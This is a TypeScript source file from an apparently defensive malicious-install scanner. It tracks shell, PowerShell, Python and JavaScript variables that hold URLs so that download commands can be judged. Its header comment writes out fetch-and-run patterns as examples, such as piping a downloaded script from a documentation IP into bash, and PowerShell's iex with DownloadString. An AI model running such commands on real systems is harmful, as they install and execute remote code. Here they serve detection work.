/**
 * Variables that hold a URL, for the malicious-install scan: `URL=http://192.0.2.10/i.sh` then
 * `curl "$URL" | bash`, `$u = "http://…"` then `iex (…).DownloadString($u)`, `url = "http://…"`
 * then `exec(urlopen(url).read())`. A download's host is judged by the value the variable holds
 * where the command reads it: the last assignment of that name before the command, so a name set
 * again to something else stops holding the URL. Pure text: nothing is run or expanded by a shell.
 *
 * Assignments read: sh (`NAME=value`, after `export`, `local`, `readonly`, `declare`), PowerShell
 * (`$name = value`), cmd (`set NAME=value`), Python and JavaScript (`name = "value"`, after
 * `const`, `let`, `var`). References read: `$NAME`, `${NAME}`, `%NAME%`, and a bare name for one
 * a Python or JavaScript assignment set. A value that itself reads a variable (`URL="http://$HOST/x"`)
 * is read with that variable's value at the assignment, up to MAX_VALUE characters (so that values
 * built from each other cannot grow without bound).
 */

/** Where a variable is read in a text, and the value it holds there. */
export interface VariableRead {
  readonly index: number;
  readonly end: number;
  readonly name: string;
  readonly value: string;
}

/** A resolved value's length bound. */
const MAX_VALUE = 2048;

/** sh and cmd: `NAME=value` (the `=` not part of `==`), at a command's start or after a blank. */
const SH_ASSIGN = /(?:^|[\s;(])(?:(?:export|local|readonly|declare(?:[ \t]+-\w+)*|set)[ \t]+)?["']?([A-Za-z_][A-Za-z0-9_]*)=(?!=)("[^"\n]*"|'[^'\n]*'|[^\s;&|'"`)]*)/dg;
/** PowerShell: `$name = value`, at a statement's start (in sh, `[ $URL = http://… ]` is a test). */
const PS_ASSIGN = /(?:^|[\n;{(])[ \t]*\$([A-Za-z_][A-Za-z0-9_]*)[ \t]*=(?!=)[ \t]*("[^"\n]*"|'[^'\n]*'|[^\s;|)]*)/dg;
/** Python and JavaScript: `name = "value"` (a string, with a Python prefix), after `const`, `let` or `var`. */
const CODE_ASSIGN = /(?:^|[\s;])(?:(?:const|let|var)[ \t]+)?([A-Za-z_][A-Za-z0-9_]*)[ \t]*=(?!=)[ \t]*([frbuFRBU]{0,2}(?:"[^"\n]*"|'[^'\n]*'|`[^`\n]*`)|[^\s;,)]*)/dg;
/**
 * `$NAME`, `${NAME}`, `%NAME%`, and sh's parameter expansions `${NAME:-default}`, `${NAME%/}` …
 * (group 1 the name, 2 an operator giving a default, 3 the default; 4 and 5 the other forms' names).
 */
const DOLLAR_READ = /\$\{([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-=])([^}\n]*)|[:+?%#/^,][^}\n]*)?\}|\$([A-Za-z_][A-Za-z0-9_]*)|%([A-Za-z_][A-Za-z0-9_]*)%/g;
const WORD = /[A-Za-z_][A-Za-z0-9_]*/g;

/** The name a DOLLAR_READ match reads. */
function readName(m: RegExpMatchArray): string {
  return (m[1] ?? m[4] ?? m[5])!;
}

interface Assignment {
  readonly at: number;
  readonly name: string;
  readonly raw: string;
  /** Set by a Python or JavaScript assignment: then a bare name reads it. */
  readonly bare: boolean;
}

/** A value without its quotes and Python string prefix. */
function unquote(raw: string): string {
  const m = /^[frbuFRBU]{0,2}(["'`])([\s\S]*)\1$/.exec(raw);
  return m ? m[2]! : raw;
}

/**
 * Every read of a variable that some assignment before it set, with the value it holds there, in
 * text order. Linear in the text (each expression is one global pass; lookups are by name).
 */
export function variableReads(text: string): VariableRead[] {
  // Cheap exit: no assignment sign, no variable.
  if (!text.includes('=')) return [];
  const assignments: Assignment[] = [];
  for (const m of text.matchAll(SH_ASSIGN)) assignments.push({ at: m.indices![1]![0], name: m[1]!, raw: m[2]!, bare: false });
  // PowerShell's `$`: the read DOLLAR_READ would see at the same offset is this assignment.
  for (const m of text.matchAll(PS_ASSIGN)) assignments.push({ at: m.indices![1]![0] - 1, name: m[1]!, raw: m[2]!, bare: false });
  for (const m of text.matchAll(CODE_ASSIGN)) assignments.push({ at: m.indices![1]![0], name: m[1]!, raw: m[2]!, bare: /^[frbuFRBU]{0,2}["'`]/.test(m[2]!) });
  if (assignments.length === 0) return [];
  const assigned = new Set(assignments.map((a) => a.at));
  // In text order; at one offset the sh reading first (they read the same value).
  assignments.sort((a, b) => a.at - b.at);

  const bareNames = new Set(assignments.filter((a) => a.bare).map((a) => a.name));
  // Reads in text order: `$`-forms, and bare words of names a code assignment set.
  const found: { index: number; end: number; name: string; bare: boolean; fallback?: string }[] = [];
  for (const m of text.matchAll(DOLLAR_READ)) found.push({ index: m.index, end: m.index + m[0].length, name: readName(m), bare: false, ...(m[2] !== undefined ? { fallback: m[3]! } : {}) });
  if (bareNames.size > 0) {
    for (const m of text.matchAll(WORD)) {
      const before = m.index > 0 ? text[m.index - 1]! : '';
      if (bareNames.has(m[0]) && before !== '$' && before !== '.' && !/\w/.test(before)) found.push({ index: m.index, end: m.index + m[0].length, name: m[0], bare: true });
    }
  }
  // A bare word inside `${url}` or `%url%` is that read, not a second one (kept in one pass: a
  // splice per overlap was quadratic in a text of many `%url%`).
  found.sort((a, b) => a.index - b.index || b.end - a.end);
  const reads: typeof found = [];
  for (const r of found) if (reads.length === 0 || r.index >= reads.at(-1)!.end) reads.push(r);
  if (reads.length === 0) return [];

  // One walk: assignments and reads merged by offset; each assignment's value is read with the
  // values its own reads hold at that point.
  const current = new Map<string, { value: string; bare: boolean }>();
  const out: VariableRead[] = [];
  const expand = (value: string): string => {
    if (!value.includes('$') && !value.includes('%')) return value.slice(0, MAX_VALUE);
    // Piece by piece, and no further than MAX_VALUE: `A="$A$A…"` said again would double it each time.
    let v = '';
    let at = 0;
    for (const m of value.matchAll(DOLLAR_READ)) {
      v += value.slice(at, m.index) + (current.get(readName(m))?.value ?? m[0]);
      at = m.index + m[0].length;
      if (v.length >= MAX_VALUE) return v.slice(0, MAX_VALUE);
    }
    return (v + value.slice(at)).slice(0, MAX_VALUE);
  };
  let i = 0;
  for (const r of reads) {
    // The name an assignment sets is not a read of it (`URL=…`, PowerShell's `$u = …`).
    if (assigned.has(r.index)) continue;
    for (; i < assignments.length && assignments[i]!.at < r.index; i++) {
      const a = assignments[i]!;
      current.set(a.name, { value: expand(unquote(a.raw)), bare: a.bare });
    }
    const held = current.get(r.name);
    // `${URL:-https://…}`: the default is what an unset variable reads as.
    if (!held && r.fallback !== undefined) {
      out.push({ index: r.index, end: r.end, name: r.name, value: expand(unquote(r.fallback)) });
      continue;
    }
    // A bare word reads only a name a code assignment set last (`url` in prose after `URL=` is a word).
    if (!held || (r.bare && !held.bare)) continue;
    out.push({ index: r.index, end: r.end, name: r.name, value: held.value });
  }
  return out;
}
